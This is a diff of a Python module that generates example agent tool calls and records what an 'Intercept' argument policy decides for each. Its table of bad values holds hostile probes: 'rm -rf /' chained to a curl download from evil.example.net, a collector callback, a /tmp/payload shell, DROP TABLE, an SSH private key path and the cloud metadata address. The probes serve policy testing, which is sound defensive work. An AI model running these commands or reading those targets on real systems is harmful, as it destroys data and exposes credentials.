@@ -1,21 +1,24 @@
 """Example calls for a tool, each with what its recommended Intercept policy decides.
 
 The calls are made from the tool's input schema: a typical call, a call with
-every parameter, and one call that breaks each argument rule (a path out of
+every parameter, one call that breaks each argument rule (a path out of
 the root, a URL to the cloud metadata address, `DROP TABLE`, a negative
-amount...).  The decisions come from the policy evaluator
+amount...), and one without an argument the tool makes optional but a
+condition checks (Intercept fails a condition on a missing argument, so
+the policy makes it required: the page shows it).  The decisions come from the policy evaluator
 (:mod:`site_builder.policy.simulate`), which follows Intercept's engine; a
 counter is reported as counted, not evaluated.
 """
 
 from __future__ import annotations
 
-from dataclasses import dataclass
-from typing import Any, Mapping
+from dataclasses import dataclass, field
+from typing import Any, Iterable, Mapping
 
+from ..content.overrides import ArgCondition
 from ..derive.parameters import is_list, parameter_kinds, schema_properties
 from ..derive.words import name_words
-from .arguments import AMOUNT_CAP, ROOT_PLACEHOLDER, ArgumentRule
+from .arguments import AMOUNT_CAP, RELATIVE_PATH_PATTERN, ROOT_PLACEHOLDER, ArgumentRule
 from .simulate import evaluate
 
 MIN_EXAMPLES, MAX_EXAMPLES = 3, 6
@@ -32,12 +35,58 @@ BAD_VALUES: dict[str, tuple[tuple[Any, str], ...]] = {
             ("https://localhost:8080/admin", "a local service")),
     "callback": (("https://collector.example.net/hook", "results sent to an address the agent chose"),),
     "command": (("rm -rf / ; curl https://evil.example.net", "a destructive command chained to a download"),),
+    "shell": (("/tmp/payload", "a program the agent chose to run the command"),),
     "sql": (("DROP TABLE customers", "a destructive statement"),),
     "amount": ((-500, "a negative amount, which would lower the counter"), (AMOUNT_CAP * 10, "over the per-call cap")),
     "flag": ((True, "forcing past safeguards"),),
     "paths": ((["/home/user/.ssh/id_rsa"], "a private key in the list"),),
     "urls": ((["http://169.254.169.254/latest/meta-data/"], "the cloud metadata address in the list"),),
 }
+
+
+@dataclass(frozen=True)
+class Reviewed:
+    """What a reviewer's conditions (a tool's own policy) say of its arguments."""
+
+    conditioned: frozenset[str] = frozenset()  # the arguments they check
+    allowed: Mapping[str, Any] = field(default_factory=dict)  # a value each `in` condition lists
+    absent: frozenset[str] = frozenset()  # those `exists: false` holds absent
+    within: Mapping[str, float] = field(default_factory=dict)  # a number inside each one's bounds (gt, lte...)
+
+    @classmethod
+    def of(cls, conditions: Iterable[ArgCondition]) -> Reviewed:
+        by_name: dict[str, list[ArgCondition]] = {}
+        for condition in conditions:
+            by_name.setdefault(condition.path.removeprefix("args."), []).append(condition)
+        allowed = {name: next(c.value[0] for c in mine if c.op == "in" and isinstance(c.value, list) and c.value)
+                   for name, mine in by_name.items()
+                   if any(c.op == "in" and isinstance(c.value, list) and c.value for c in mine)}
+        within = {name: number for name, mine in by_name.items()
+                  if (number := _inside([c for c in mine if c.op in BOUNDS and _is_number(c.value)])) is not None}
+        absent = frozenset(name for name, mine in by_name.items() if any(c.op == "exists" and not c.value for c in mine))
+        return cls(frozenset(by_name), allowed, absent, within)
+
+
+BOUNDS = ("gt", "gte", "lt", "lte")
+
+
+def _is_number(value: Any) -> bool:
+    return isinstance(value, (int, float)) and not isinstance(value, bool)
+
+
+def _inside(bounds: list[ArgCondition]) -> float | None:
+    """A number the bounds allow, near GOOD_VALUES' amount (None: no bounds, or none fits)."""
+    if not bounds:
+        return None
+    low = max([c.value for c in bounds if c.op in ("gt", "gte")], default=None)
+    high = min([c.value for c in bounds if c.op in ("lt", "lte")], default=None)
+    candidates = [GOOD_VALUES["amount"], *([low + 1, low] if low is not None else []), *([high] if high is not None else [])]
+    fits = [value for value in candidates if all(_holds(value, c.op, c.value) for c in bounds)]
+    return fits[0] if fits else None
+
+
+def _holds(value: float, op: str, bound: float) -> bool:
+    return {"gt": value > bound, "gte": value >= bound, "lt": value < bound, "lte": value <= bound}[op]
 
 
 @dataclass(frozen=True)
@@ -53,7 +102,9 @@ class Example:
         return {"arguments": self.arguments, "decision": self.decision, "rule": self.rule}
 
 
-def _sample(spec: Any, kind: str | None) -> Any:
+def _sample(spec: Any, kind: str | None, rule: ArgumentRule | None = None) -> Any:
+    if rule is not None and rule.condition.op == "regex" and rule.condition.value == RELATIVE_PATH_PATTERN:
+        return ["notes/todo.md"] if is_list(spec) else "notes/todo.md"  # the rule wants a relative path
     if kind in GOOD_VALUES:
         return [GOOD_VALUES[kind]] if is_list(spec) else GOOD_VALUES[kind]
     if not isinstance(spec, dict):
@@ -69,35 +120,52 @@ def _sample(spec: Any, kind: str | None) -> Any:
     return {"integer": 1, "number": 1, "boolean": False, "array": [], "object": {}}.get(str(kind_name), "example")
 
 
-def _calls(schema: dict[str, Any] | None, rules: tuple[ArgumentRule, ...], description: str,
-           conditioned: frozenset[str], allowed: Mapping[str, Any]) -> list[tuple[dict[str, Any], str]]:
+def _calls(schema: dict[str, Any] | None, rules: tuple[ArgumentRule, ...], description: str, reviewed: Reviewed
+           ) -> list[tuple[dict[str, Any], str]]:
+    conditioned, allowed, absent = reviewed.conditioned, reviewed.allowed, reviewed.absent
     properties = schema_properties(schema)
     required = (schema or {}).get("required")
     required_names = {str(name) for name in required} if isinstance(required, list) else set()
     kinds = parameter_kinds(schema, description)
     ruled = {rule.parameter: rule for rule in rules}
+    held_absent = absent | {name for name, rule in ruled.items() if rule.condition.op == "exists"}
     typical: dict[str, Any] = {}
     for name, spec in list(properties.items())[:50]:
         rule = ruled.get(str(name))
         if rule is not None and rule.condition.op == "in":
             typical[str(name)] = rule.condition.value[0]
-        elif rule is not None and rule.condition.op == "exists" and str(name) not in required_names:
+        elif str(name) in held_absent and str(name) not in required_names:
             continue  # held absent (a required one is given: the typical call shows what the policy does to it)
         elif str(name) in allowed:  # a reviewer's `in` condition: one of the values it allows
             typical[str(name)] = allowed[str(name)]
+        elif str(name) in reviewed.within:
+            typical[str(name)] = reviewed.within[str(name)]
         elif str(name) in required_names or rule is not None or str(name) in conditioned:
-            typical[str(name)] = _sample(spec, kinds[str(name)])
+            typical[str(name)] = _sample(spec, kinds[str(name)], rule)
+    for name in sorted(conditioned - set(properties) - absent):  # checked, but the tool publishes no schema
+        if name in allowed or name in reviewed.within:
+            typical[name] = allowed[name] if name in allowed else reviewed.within[name]
     calls = [(typical, "a typical call")]
+    made_required = [name for name in typical if name not in required_names and name not in held_absent
+                     and (name in ruled or name in conditioned)]
+    if made_required:  # Intercept fails a condition on a missing argument: show what that does to the tool
+        name = made_required[0]
+        calls.append(({key: value for key, value in typical.items() if key != name},
+                      f"without {name}, which the tool makes optional"))
     for name, rule in ruled.items():
         for value, why in _bad_values(rule, properties.get(name)):
             calls.append(({**typical, name: value}, f"{name}: {why}"))
     for name in sorted(conditioned - set(ruled)):  # a reviewer's conditions: the same probes by the argument's kind
+        if name in absent:
+            calls.append(({**typical, name: _sample(properties.get(name), kinds.get(name))},
+                          f"{name} given, which the policy holds absent"))
+            continue
         for value, why in BAD_VALUES.get(kinds.get(name) or "", ()):
             calls.append(({**typical, name: [value] if is_list(properties.get(name)) else value}, f"{name}: {why}"))
         if name in allowed and not BAD_VALUES.get(kinds.get(name) or ""):
             calls.append(({**typical, name: _unlisted(name, allowed[name])}, f"{name}: a value the policy does not list"))
-    full = {str(name): _sample(spec, kinds[str(name)]) for name, spec in list(properties.items())[:50]
-            if not (str(name) in ruled and ruled[str(name)].condition.op == "exists")}
+    full = {str(name): _sample(spec, kinds[str(name)], ruled.get(str(name))) for name, spec in list(properties.items())[:50]
+            if str(name) not in held_absent}
     if full != typical:
         calls.append(({**full, **typical}, "every parameter given"))
     if required_names and typical:
@@ -122,14 +190,11 @@ def _bad_values(rule: ArgumentRule, spec: Any) -> tuple[tuple[Any, str], ...]:
 
 
 def examples_for(policy: dict[str, Any], tool: str, schema: dict[str, Any] | None,
-                 rules: tuple[ArgumentRule, ...], description: str = "",
-                 conditioned: frozenset[str] = frozenset(), allowed: Mapping[str, Any] | None = None
+                 rules: tuple[ArgumentRule, ...], description: str = "", reviewed: Reviewed = Reviewed()
                  ) -> tuple[Example, ...]:
-    """Three to six calls of `tool` with the decisions `policy` gives them.
-
-    `conditioned`: parameters a reviewer's conditions check (besides `rules`); `allowed`: a value each
-    reviewer's `in` condition allows, for the typical call."""
-    calls = _calls(schema, rules, description, conditioned, allowed or {})
+    """Three to six calls of `tool` with the decisions `policy` gives them; `reviewed`: what a reviewer's
+    conditions check besides `rules` (the typical call meets them)."""
+    calls = _calls(schema, rules, description, reviewed)
     if len(calls) < MIN_EXAMPLES:
         calls.append(({**calls[0][0], "unexpected": "extra"}, "an argument the tool does not declare"))
     if len(calls) < MIN_EXAMPLES:
